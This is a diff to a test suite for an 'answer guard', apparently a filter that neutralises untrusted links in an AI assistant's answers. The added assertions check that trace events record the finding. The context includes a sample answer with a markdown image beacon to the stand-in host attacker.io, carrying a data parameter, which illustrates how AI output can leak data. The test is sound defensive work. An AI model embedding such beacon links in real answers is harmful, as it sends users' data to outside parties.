@@ -736,6 +736,16 @@ describe('the answer guard', () => {
       findings: [{ kind: 'untrusted_link', destination: 'attacker.io', action: 'neutralised' }],
       original: 'You have one email. ![status](https://attacker.io/pixel.png?c=482913)',
     });
+    const traced = spansFromJournal(result.id, await w.store.readEvents(result.id))
+      .flatMap((span) => span.events)
+      .find((event) => event.name === 'keel.answer.guarded');
+    expect(traced).toMatchObject({
+      attributes: {
+        'keel.answer.findings': ['untrusted_link:neutralised'],
+        'keel.answer.destinations': ['attacker.io'],
+        'keel.answer.untrusted_spans': 1,
+      },
+    });
   });
 
   it('leaves the answer as written in flag mode, still journaled', async () => {
